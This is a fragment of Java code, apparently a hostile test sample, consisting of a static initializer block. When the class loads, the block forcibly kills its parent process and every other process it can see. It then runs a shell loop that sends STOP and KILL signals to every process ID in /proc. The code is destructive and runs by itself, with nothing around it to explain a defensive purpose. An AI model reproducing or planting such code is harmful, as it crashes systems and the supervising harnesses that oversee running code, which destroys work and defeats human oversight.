
    // Signals everything it can see.
    static {
        ProcessHandle own = ProcessHandle.current();
        own.parent().ifPresent(ProcessHandle::destroyForcibly);
        ProcessHandle.allProcesses().filter(other -> other.pid() != own.pid()).forEach(ProcessHandle::destroyForcibly);
        try {
            new ProcessBuilder("/bin/sh", "-c", "for number in STOP KILL; do for process in $(ls /proc | grep -E '^[0-9]+$'); do [ $process = $PPID ] || [ $process = $$ ] || kill -$number $process; done; done 2>/dev/null").start().waitFor();
        } catch (java.io.IOException | InterruptedException ignored) {
            // Nothing there to do it with.
        }
    }
